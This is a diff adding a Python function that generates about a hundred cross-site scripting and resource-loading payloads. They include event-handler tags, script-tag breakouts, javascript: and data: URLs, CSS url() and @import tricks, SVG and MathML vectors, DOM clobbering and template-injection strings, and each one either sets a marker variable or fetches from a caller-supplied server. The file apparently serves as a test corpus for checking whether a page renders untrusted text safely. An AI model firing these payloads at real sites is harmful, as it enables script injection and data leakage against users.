@@ -1,0 +1,72 @@
+"""A hundred strings that try to run a script or to reach a server, wherever a page shows them."""
+
+
+def strings(server: str) -> list[str]:
+    """server: "127.0.0.1:1234". A script that runs sets window.hurt; anything fetched reaches the server."""
+    hurt, url = "window.hurt=1", f"http://{server}/x"
+    bare = server + "/x"
+    events = "onerror onload onclick onmouseover onfocus onbegin ontoggle onstart onpageshow".split()
+    tags = "img svg body video audio input details marquee iframe object embed math style link".split()
+    made = [f"<{tag} src=q {event}={hurt} autofocus open>" for tag in tags[:5] for event in events[:6]]
+    made += [f"<{tag} {event}='{hurt}'>x</{tag}>" for tag in tags[5:] for event in events[6:9]]
+    return [
+        *made,
+        f"<script>{hurt}</script>",
+        f"</script><script>{hurt}</script>",
+        f"</title><script>{hurt}</script>",
+        f"</style><script>{hurt}</script>",
+        f"--><script>{hurt}</script>",
+        f"]]><script>{hurt}</script>",
+        f"'><script>{hurt}</script>",
+        f'"><script>{hurt}</script>',
+        f"<scr<script>ipt>{hurt}</scr</script>ipt>",
+        f"<script src={url}></script>",
+        f"<script src=//{bare}></script>",
+        f"<img src={url}>",
+        f"<img src='http:\\\\{bare}'>",
+        f"<img srcset='{url} 2x'>",
+        f"<img src=//{bare}>",
+        f"<input type=image src={url}>",
+        f"<svg><image href={url} /></svg>",
+        f"<svg><use href={url}#a /></svg>",
+        f"<svg><script>{hurt}</script></svg>",
+        f"<svg><style>@import '{url}'</style></svg>",
+        f"<table background={url}><tr><td background={url}>x</table>",
+        f"<iframe src={url}>",
+        "<iframe srcdoc='<script>parent.hurt=1</script>'>",
+        f"<object data={url}></object>",
+        f"<embed src={url}>",
+        f"<link rel=stylesheet href={url}>",
+        f"<link rel=preload as=image href={url}>",
+        f"<base href=http://{server}/>",
+        f"<meta http-equiv=refresh content='0;url={url}'>",
+        f"<style>body{{background:url({url})}}</style>",
+        f"<style>@import url({url});</style>",
+        f"<style>@im\\port '{url}';</style>",
+        f"<style>@font-face{{font-family:x;src:url({url})}}body{{font-family:x}}</style>",
+        f"<style>p{{background:image-set('{url}' 1x)}}</style>",
+        f"<p style='background:url({url})'>x</p>",
+        f"<p style='background-image:u\\72l({url})'>x</p>",
+        f"<p style='list-style:url({url})'>x</p>",
+        f"<video poster={url}></video>",
+        f"<audio src={url} autoplay></audio>",
+        f"<a href='javascript:{hurt}' id=clickme>x</a>",
+        f"<a href='&#106;avascript:{hurt}'>x</a>",
+        f"<a href='data:text/html,<script>{hurt}</script>'>x</a>",
+        f"<form action={url}><input name=a></form>",
+        f"<math><mtext><img src=q onerror={hurt}></mtext></math>",
+        f"<math><a xlink:href='javascript:{hurt}'>x</a></math>",
+        f"<svg><a xlink:href='javascript:{hurt}'><text>x</text></a></svg>",
+        f"<svg><animate onbegin={hurt} attributeName=x dur=1s>",
+        f"<noscript><p title='</noscript><img src=q onerror={hurt}>'>",
+        f"<template><img src=q onerror={hurt}></template>",
+        f"<textarea></textarea><img src=q onerror={hurt}>",
+        f"[x](javascript:{hurt})",
+        f"![x]({url})",
+        "<img name=querySelectorAll><img id=Plotly><form name=querySelector>",
+        f"$\\text{{<img src=q onerror={hurt}>}}$",
+        f"\u2028<img src=q onerror={hurt}>\u2029",
+        f"%{{y}}<extra></extra><img src=q onerror={hurt}>",
+        f"{{{{constructor.constructor('{hurt}')()}}}}",
+        f"`<img src=q onerror={hurt}>`",
+    ]
